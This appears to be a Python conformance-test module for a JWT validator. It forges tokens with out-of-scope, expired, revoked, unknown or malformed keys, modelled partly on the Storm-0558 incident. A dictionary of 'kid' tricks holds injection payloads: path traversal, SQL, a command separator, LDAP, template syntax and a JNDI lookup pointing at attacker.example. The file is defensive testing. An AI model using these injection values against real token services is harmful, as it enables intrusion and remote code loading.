"""Keys out of their scope: of another realm, out of their window, retired, revoked, staged, unknown.
Storm-0558 is here.

May never use a key that is published for what the token claims.
"""

from sealwright_validate.conformance.authority import HOUR
from sealwright_validate.conformance.case import Collector, Force
from sealwright_validate.conformance.scene import Scene
from sealwright_validate.errors import Reason

_KID_TRICKS = {
    "path": "../../../../../../dev/null",
    "absolute_path": "/proc/sys/kernel/randomize_va_space",
    "sql": "x' UNION SELECT 'AAAA",
    "sql_comment": "1;--",
    "url": "https://attacker.example/key.json",
    "file_url": "file:///dev/null",
    "command": "x|/bin/true",
    "ldap": "*)(kid=*",
    "template": "{{7*7}}",
    "dollar": "${jndi:ldap://attacker.example/a}",
    "proto": "__proto__",
    "constructor": "constructor",
    "of_a_space": " ",
}


def cases(scene: Scene) -> Collector:
    """Real keys where they do not belong, and keys that nobody published."""
    found = Collector("key", "RFC 8725 §3.8; docs/formats/key-manifest.md")
    _scope(scene, found)
    _window(scene, found)
    _ids(scene, found)
    return found


def _scope(scene: Scene, found: Collector) -> None:
    for name, thief in (("", scene.consumer), ("_rsa", scene.consumer_rsa)):
        found.bad(
            f"key_of_other_realm{name}",
            "claims of the enterprise realm, signed with a real key of the consumer realm (Storm-0558)",
            scene.sign(scene.header(thief), key=thief.key).token,
            Reason.KEY_OF_OTHER_REALM,
        )
    found.bad(
        "issuer_of_other_realm",
        "a good token of the consumer realm, presented to an enterprise service",
        scene.sign(scene.header(scene.consumer), scene.claims("consumer"), scene.consumer.key).token,
        Reason.ISSUER_NOT_ALLOWED,
    )
    found.bad(
        "issuer_of_other_realm_with_our_audience",
        "signed by the consumer realm with its own issuer, but for the enterprise audience",
        scene.sign(
            scene.header(scene.consumer),
            scene.claims("consumer", aud=scene.claims()["aud"]),
            scene.consumer.key,
        ).token,
        Reason.ISSUER_NOT_ALLOWED,
    )
    found.bad(
        "our_key_for_other_realm",
        "claims of the consumer realm, signed with an enterprise key",
        scene.sign(claims=scene.claims("consumer")).token,
        Reason.KEY_OF_OTHER_REALM,
    )


def _window(scene: Scene, found: Collector) -> None:
    for name, issued, reason, how in (
        (
            "key_outside_window",
            scene.expired,
            Reason.KEY_OUTSIDE_WINDOW,
            "a key whose window (and certificate) ended",
        ),
        ("key_retired", scene.retired, Reason.KEY_RETIRED, "a retired key"),
        ("key_revoked", scene.revoked, Reason.KEY_REVOKED, "a revoked key"),
    ):
        token = scene.sign(scene.header(issued), key=issued.key).token
        found.bad(name, f"signed now with {how}", token, reason)
    late = scene.claims(iat=scene.now - 6 * HOUR, exp=scene.now - 6 * HOUR + 3600)
    found.bad(
        "key_outside_window_token_too",
        "a token of the time when its key still signed, long expired itself",
        scene.sign(scene.header(scene.expired), late, scene.expired.key).token,
        Reason.TOKEN_EXPIRED,
    )
    for name, issued, reason, how in (
        (
            "key_not_yet_active",
            scene.staged,
            Reason.KEY_NOT_YET_ACTIVE,
            "a published key before it is to sign",
        ),
        (
            "key_revoked_from",
            scene.revoked_later,
            Reason.KEY_REVOKED,
            "a key revoked for tokens as new as this",
        ),
    ):
        token = scene.sign(scene.header(issued), key=issued.key).token
        found.bad(name, f"signed with {how}", token, reason, force=Force.MANIFEST)
    before = scene.claims(iat=scene.now - 2 * HOUR, exp=scene.now + 60)
    found.bad(
        "issued_before_key",
        "iat lies before the key began to sign",
        scene.sign(claims=before).token,
        Reason.KEY_OUTSIDE_WINDOW,
        force=Force.MANIFEST,
    )


def _ids(scene: Scene, found: Collector) -> None:
    stranger = scene.stranger
    found.bad(
        "key_unknown",
        "signed with a key that nobody published, under its own id",
        scene.sign(scene.header(kid=stranger.kid), key=stranger).token,
        Reason.UNKNOWN_KEY,
    )
    found.bad(
        "kid_of_known_key",
        "signed with an unknown key under the id of a published one",
        scene.sign(key=stranger).token,
        Reason.SIGNATURE_INVALID,
    )
    found.bad(
        "kid_of_other_known_key",
        "signed with one published key under the id of another",
        scene.sign(scene.header(alg="EdDSA"), key=scene.good["EdDSA"].key).token,
        Reason.ALGORITHM_MISMATCH,
    )
    for name, kid in _KID_TRICKS.items():
        found.bad(
            f"kid_{name}",
            f"kid is {kid!r}, signed with an unknown key",
            scene.sign(scene.header(kid=kid), key=stranger).token,
            Reason.UNKNOWN_KEY,
            why="RFC 8725 §3.10",
        )
    for name, odd, how in (
        ("missing", None, "no kid"),
        ("empty", "", "kid is an empty text"),
        ("number", 1, "kid is a number"),
        ("array", [scene.key.kid], "kid is an array with the right id"),
        ("object", {"kid": scene.key.kid}, "kid is an object with the right id"),
        ("true", True, "kid is true"),
        ("with_nul", f"{scene.key.kid}\x00", "the right id with a NUL behind it"),
        ("with_line_feed", f"{scene.key.kid}\n", "the right id with a line feed behind it"),
        ("very_long", "k" * 3000, "kid is 3,000 characters long"),
    ):
        found.bad(
            f"kid_{name}",
            f"{how}, signed with an unknown key",
            scene.sign(scene.header(kid=odd), key=stranger).token,
            Reason.KID_MALFORMED,
        )
    for name, kid in (("lower_case", scene.key.kid.lower()), ("cut", scene.key.kid[:-1])):
        found.bad(
            f"kid_{name}",
            f"the right key, its id {name.replace('_', ' ')}",
            scene.sign(scene.header(kid=kid)).token,
            Reason.UNKNOWN_KEY,
            force=Force.SHOULD,
        )
